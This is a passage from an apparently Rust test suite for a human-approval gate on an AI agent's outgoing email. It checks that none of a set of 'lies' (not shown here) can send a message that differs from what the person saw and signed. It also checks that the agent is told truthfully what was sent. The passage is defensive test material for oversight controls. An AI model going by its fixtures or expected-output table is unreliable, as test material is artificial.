                assert!(self.signed.insert(approval.id.clone(), signed).is_none());
            }
            Ok(_) => shown.push("no".into()),
            Err(_) => {
                shown.push("too late".into());
                self.host.settle().await.unwrap();
            }
        }
        if resume {
            self.host.resume(user, id).await.unwrap();
        }
    }

    async fn mail(&self, number: usize) {
        let folder = self.data.path().join(format!("mail-{number}"));
        std::fs::create_dir(&folder).unwrap();
        let text = format!(
            "From: a@company.com\r\nTo: me@company.com\r\nSubject: New {number}\r\nMessage-ID: <{number}@x>\r\n\
             Date: Tue, 24 Feb 2026 10:00:00 +0000\r\n\r\nPay 9,000.\r\n"
        );
        std::fs::write(folder.join("new.eml"), text).unwrap();
        self.host.import(USER, &folder, |_, _| {}).await.unwrap();
    }

    /// What came of it: what has left is held against what was on the person's screen.
    async fn judge(&self, runs: &[(&str, String)], shown: &[String]) -> Verdicts {
        let (mut heard, mut left, mut silently, mut uninspectable) = (Vec::new(), 0, 0, 0);
        for (user, id) in runs {
            let view = self.host.show(*user, id).unwrap();
            heard.push(told_to_the_agent(&view));
            let mut sends = 0;
            for Stored { approval, .. } in &view.approvals {
                let Ok(outgoing) = self.host.outgoing(*user, &approval.id) else { continue };
                if outgoing.sent_ms.is_none() {
                    continue;
                }
                left += 1;
                let screen = self.signed.get(&approval.id).and_then(|signed| signed.shown.as_ref());
                uninspectable += usize::from(screen.is_none());
                silently += usize::from(screen != Some(&outgoing.action));
                sends += 1;
            }
            // The agent is told of every message that has left, and of no other.
            if let (Status::Done, Some(card)) = (view.intent.status, &view.intent.card) {
                let lines = card["body"].as_str().unwrap_or_default().lines();
                let ok =
                    lines.filter(|line| line.starts_with("messages.send -> ok") || line.starts_with("sent "));
                assert_eq!(ok.count(), sends, "{card}");
            }
            if view.intent.status == Status::Waiting {
                self.host.cancel(*user, id).await.unwrap();
            }
        }
        let shown = if shown.is_empty() { "nothing".into() } else { shown.join("; ") };
        Verdicts { shown, heard: heard.join(" / "), left, silently, uninspectable }
    }

    /// Each message that has left maps to one approval, was signed as what it is, and its bytes are those of what was shown.
    /// Gives how many there are, and adds what readers are to read of them.
    fn close(&self, letters: &mut Vec<Letter>) -> usize {
        let mut all = Vec::new();
        for user in [USER, NEIGHBOUR] {
            for sent in self.host.sent(user).unwrap() {
                let signed = &self.signed[&sent.approval];
                let shown = signed.shown.as_ref().unwrap();
                assert_eq!(&sent.action, shown);
                assert_eq!(letter::parse(&sent.bytes, shown).as_ref(), Some(shown));
                assert_eq!(sent.bytes, letter::render(shown, &sent.message_id, signed.at_ms).unwrap());
                letters.push(Letter { bytes: sent.bytes.clone(), signed: shown.clone() });
                all.push(sent);
            }
        }
        let mut entries = Vec::new();
        let each = self.host.each_audit_entry("main", |_, entry| {
            entries.push(entry);
            Ok(())
        });
        each.unwrap();
        account(&all, &entries, &self.host.audit("main", None).unwrap())
    }
}

/// What is on the screen, in a few words: what the ask is about, and what the host points at.
fn seen(stored: &Stored) -> String {
    let approval = &stored.approval;
    let mut words = vec![word(&approval.binding)];
    for notice in stored.notices() {
        // The binding says these.
        if matches!(notice.flag, Flag::Question | Flag::Hold | Flag::Declared) {
            continue;
        }
        words.push(match notice.flag {
            Flag::WordsDiffer => format!("{}({})", word(&notice.flag), notice.values.join(",")),
            flag => word(&flag),
        });
    }
    words.join(" ")
}

fn word(named: &impl serde::Serialize) -> String {
    serde_json::to_value(named).unwrap().as_str().unwrap().to_owned()
}

/// What the agent heard, call by call, in one word each; and how its run stands where it has no answer.
fn told_to_the_agent(view: &View) -> String {
    if let Some(reason) = &view.intent.reason {
        return reason.code.to_string();
    }
    let Some(card) = &view.intent.card else { return view.intent.status.name().to_owned() };
    let mut heard: Vec<(String, usize)> = Vec::new();
    for line in card["body"].as_str().unwrap_or_default().lines() {
        let one = one_answer(line);
        match heard.last_mut() {
            Some((before, times)) if *before == one => *times += 1,
            _ => heard.push((one, 1)),
        }
    }
    let once = |(one, times)| if times == 1 { one } else { format!("{times}x {one}") };
    let heard: Vec<_> = heard.into_iter().map(once).collect();
    match heard.is_empty() {
        true => card["code"].as_str().unwrap_or("an empty card").to_owned(),
        false => heard.join(" "),
    }
}

fn one_answer(line: &str) -> String {
    let Some((call, answer)) = line.split_once(" -> ") else {
        return line.split(' ').next().unwrap_or_default().to_owned();
    };
    let call = call.rsplit('.').next().unwrap_or(call);
    let (code, rest) = answer.split_once(' ').unwrap_or((answer, ""));
    let reason = rest.split_once("\"reason\":\"").and_then(|(_, rest)| rest.split_once('"'));
    match (code, call) {
        ("ok", "request") if rest.contains("\"approved\":true") => "request:yes".into(),
        ("ok", "request") => "request:no".into(),
        ("ok", _) => format!("{call}:ok"),
        ("APPROVAL_REQUIRED", _) => format!("{call}:{code}({})", reason.map_or("", |(reason, _)| reason)),
        _ => format!("{call}:{code}"),
    }
}

fn strict() -> Policy {
    let recipients = Some(vec![Pattern::new("*@company.com")]);
    Policy {
        hold: false,
        html: false,
        mixed_directions: false,
        recipients,
        pending_ms: 24 * 3_600_000,
        ..Policy::default()
    }
}

fn line(number: usize, lie: &Lie, policy: &str, verdicts: &Verdicts) -> String {
    let Verdicts { shown, heard, left, .. } = verdicts;
    let left = match left {
        0 => "no".to_owned(),
        1 => "yes".to_owned(),
        more => format!("yes, {more}"),
    };
    format!("{number} | {} | {} | {policy} | {shown} | {heard} | {left}\n", lie.item, lie.what)
}

#[tokio::test(flavor = "multi_thread")]
async fn no_lie_lets_a_message_out_that_was_not_shown_and_signed() {
    let lies = lies();
    let names: BTreeSet<_> = lies.iter().map(|lie| (lie.item, &lie.what)).collect();
    assert_eq!(names.len(), lies.len(), "two lies have the same name");
    assert!(lies.len() >= LIES_MIN, "{} lies", lies.len());

    let (mut by_default, mut strictly) = (Court::open(Policy::default()).await, Court::open(strict()).await);
    let mut table =
        "number | item | the lie | policy | shown to the person | heard by the agent | delivered\n"
            .to_owned();
    let (mut delivered, mut silently, mut uninspectable) = (0, Vec::new(), 0);
    let mut ends = BTreeMap::<_, usize>::new();
    for (number, lie) in (1..).zip(&lies) {
        let (one, other) = tokio::join!(by_default.hear(number, lie), strictly.hear(number, lie));
        for (policy, verdicts) in [("default", &one), ("strict", &other)] {
            delivered += verdicts.left;
            *ends.entry(verdicts.end()).or_default() += 1;
            uninspectable += verdicts.uninspectable;
            if verdicts.silently > 0 {
                silently.push(line(number, lie, policy, verdicts));
            }
        }
        let _ = table.write_str(&line(number, lie, "default", &one));
        if one != other {
            let _ = table.write_str(&line(number, lie, "strict", &other));
        }
    }
    // The message that made the host's acquaintance with the recipients is none of the lies.
    let mut letters = Vec::new();
    assert_eq!(by_default.close(&mut letters) + strictly.close(&mut letters), delivered + 2);
    eprintln!(
        "{} lies under each of two policies: {ends:?}; {delivered} messages delivered; {} silently passed; {uninspectable} \
         uninspectable",
        lies.len(),
        silently.len()
    );
    assert!(silently.is_empty(), "{silently:#?}");
    assert_eq!(uninspectable, 0);

    let path = workspace().join("tests/lies.txt");
    if std::env::var_os("BLESS").is_some() {
        std::fs::write(&path, &table).unwrap();
    }
    let committed = std::fs::read_to_string(&path).unwrap_or_default();
    let differing = committed.lines().zip(table.lines()).find(|(committed, found)| committed != found);
    assert!(committed == table, "BLESS=1 writes the table anew: {differing:#?}");
    eprintln!("letters were read as signed {} times", read_as_signed(&letters));
}
